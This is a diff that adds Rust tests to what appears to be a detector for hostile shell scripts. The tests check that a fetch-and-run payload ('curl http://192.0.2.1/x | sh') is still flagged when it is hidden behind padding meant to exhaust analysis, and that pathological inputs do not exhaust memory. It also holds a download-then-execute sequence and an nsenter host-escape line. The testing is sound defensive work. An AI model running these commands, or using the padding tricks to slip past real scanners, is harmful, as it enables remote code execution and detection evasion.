@@ -435,6 +435,49 @@ fn ordinary_administration_does_none_of_an_attacks_steps() {
     }
 }
 
+/// What stands before a payload, at the top level of a script, to use up what following a script may cost.
+#[test]
+fn nothing_before_a_payload_hides_it() {
+    const PAYLOAD: &str = "curl http://192.0.2.1/x | sh";
+    let loops = |body: &str| {
+        let names = ["a", "b", "c", "d", "e", "f"];
+        let head: String = names.map(|name| format!("for {name} in 1 2 3 4 5 6;do ")).concat();
+        format!("{head}{body}\n{}", "done;".repeat(6))
+    };
+    let before = [
+        "case x in a) :;; esac\n".to_owned(),
+        "case $1 in start) a;; stop) b;; *) c;; esac\n".to_owned(),
+        loops(":;"),
+        loops("eval \"f$a$b$c$d$e(){ :;}\";"),
+        format!("a=aaaaaaaa;{}: {}\n", "a=$a$a;".repeat(13), "$a".repeat(40)),
+        "alias a='b;b;b;b' b='c;c;c;c' c='d;d;d;d' d='e;e;e;e' e='f;f;f;f' f='g;g;g;g' g='h;h;h;h' h=:\na\n"
+            .to_owned(),
+        loops(": $(: a a a a a a a a a a a a a a a a a a a a);"),
+        "{ { :; } }\n".repeat(66),
+        "if :; then if :; then :; fi fi\n".repeat(66),
+        format!("f(){{ {} }}; {}", ":;".repeat(100), "f;".repeat(220)),
+        loops(": >$a$b$c$d >x$a$b$c$d;"),
+    ];
+    for before in &before {
+        for payload in [PAYLOAD.to_owned(), format!("sh -c '{PAYLOAD}'"), format!("m(){{ {PAYLOAD}; }}; m")] {
+            all_do(&[&format!("{before}{payload}")], &[FetchToShell, FetchAddress]);
+        }
+    }
+    all_do(
+        &[
+            &format!("{}'{PAYLOAD}'", "eval ".repeat(13)),
+            &format!("{}sh -c '{PAYLOAD}'", "env ".repeat(60)),
+            &format!("{}{PAYLOAD}{}", "{ ".repeat(80), "; }".repeat(80)),
+            &format!("f(){{ eval \"$x\"; }}\nf\nx='{PAYLOAD}'\nf"),
+        ],
+        &[FetchToShell, FetchAddress],
+    );
+    all_do(
+        &[&format!("curl -o /tmp/x http://192.0.2.1/x\n{}\nsh /tmp/x", loops(": >$a$b$c$d >x$a$b$c$d;"))],
+        &[FetchRun],
+    );
+}
+
 #[test]
 fn places_are_those_of_the_text_with_its_nuls() {
     let text = b"#\0\0\0\n\nwhoami; nsenter -t 1 -m sh";
@@ -473,6 +516,22 @@ fn no_text_takes_the_stack_or_all_memory() {
         ),
         format!("{x}; {}", (0..30).map(|n| format!("eval \"g{n}(){{ :; }};$x\";")).collect::<String>()),
         format!("{x}; tee {} <<<$x", (0..900).map(|n| format!("t{n} ")).collect::<String>()),
+        format!("a=seriotcn;{}a=/${{a:0:4000}};: {}", "a=$a$a;".repeat(9), ">$a".repeat(29_000)),
+        format!(
+            "a=aaaaaaaa;{}echo $a {}",
+            "a=$a$a;".repeat(13),
+            (0..1900).map(|n| format!(">{n} ")).collect::<String>()
+        ),
+        format!("{}a", "a$1".repeat(43_000)),
+        format!("x=;for i in 1 2 3 4 5 6;do for j in 1 2 3 4 5 6;do : {}\ndone; done", "$x".repeat(60_000)),
+        format!("for x in {{{}}}; do :; done", ",".repeat(120_000)),
+        format!("cat <<A\n{}", "a\\b".repeat(43_000)),
+        format!(
+            "f(){{ g(){{ {} }}; }}; {}",
+            ":\n".repeat(10_000),
+            (0..5000).map(|n| format!("f {n};")).collect::<String>()
+        ),
+        format!("a='          ';{}: {}", "a=$a$a;".repeat(7), "$a".repeat(1700)),
         "if a; then ".repeat(9_000),
         "{ ".repeat(60_000),
     ];
